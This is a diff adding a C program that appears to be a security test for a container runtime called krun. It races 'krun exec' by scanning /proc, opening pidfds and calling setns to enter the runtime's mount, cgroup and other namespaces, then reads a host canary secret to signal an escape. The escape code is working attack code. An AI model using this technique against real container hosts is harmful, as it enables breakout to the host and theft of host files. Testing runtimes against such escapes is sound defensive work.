@@ -1,0 +1,67 @@
+// Root of the container with CAP_SYS_PTRACE and CAP_SYS_ADMIN enters the namespaces of krun's own process while `krun exec` is on
+// its way (setns(2) of a pidfd): its mount namespace leads to every file of the host, its cgroup namespace to a release_agent. Wins in
+// a namespace that is not the container's; says also whether the host's secret can be read there.
+#include "attack.h"
+#include <dirent.h>
+
+static const struct {
+    int flag;
+    const char *link;
+} kinds[] = {{CLONE_NEWNS, "/proc/self/ns/mnt"},
+             {CLONE_NEWCGROUP, "/proc/self/ns/cgroup"},
+             {CLONE_NEWIPC, "/proc/self/ns/ipc"},
+             {CLONE_NEWUTS, "/proc/self/ns/uts"},
+             {CLONE_NEWNET, "/proc/self/ns/net"}};
+enum { KINDS = sizeof kinds / sizeof kinds[0] };
+
+static char own[KINDS][64];
+static unsigned char seen[1 << 22];
+
+static void entered(int kind, long pid) {
+    char now[64] = "", text[256] = "";
+    if (readlink(kinds[kind].link, now, sizeof now - 1) < 0 || !strcmp(now, own[kind]))
+        return;
+    int fd = open(attack_canary("secret"), O_RDONLY | O_CLOEXEC);
+    if (fd >= 0)
+        read(fd, text, sizeof text - 1);
+    attack_won("entered %s of %ld, a process of krun's; the host's secret: %s", now, pid, text);
+}
+
+// A process that was not there when the attack began, and what it makes of itself.
+static void look_at(long pid) {
+    int fd = syscall(SYS_pidfd_open, pid, 0);
+    for (int round = 0; fd >= 0 && round < 100; round++)
+        for (int i = 0; i < KINDS; i++) {
+            if (syscall(SYS_setns, fd, kinds[i].flag) == 0)
+                entered(i, pid);
+            else if (errno == ESRCH)
+                round = 100;
+        }
+    if (fd >= 0)
+        close(fd);
+}
+
+static void scan(int first) {
+    DIR *proc = opendir("/proc");
+    if (!proc)
+        attack_broken("/proc");
+    for (struct dirent *e; (e = readdir(proc));) {
+        long pid = atol(e->d_name);
+        if (pid <= 0 || pid >= (long)sizeof seen || seen[pid])
+            continue;
+        seen[pid] = 1;
+        if (!first)
+            look_at(pid);
+    }
+    closedir(proc);
+}
+
+int main(void) {
+    for (int i = 0; i < KINDS; i++)
+        if (readlink(kinds[i].link, own[i], sizeof own[i] - 1) < 0)
+            attack_broken(kinds[i].link);
+    scan(1);
+    while (!attack_over())
+        scan(0);
+    attack_lost();
+}
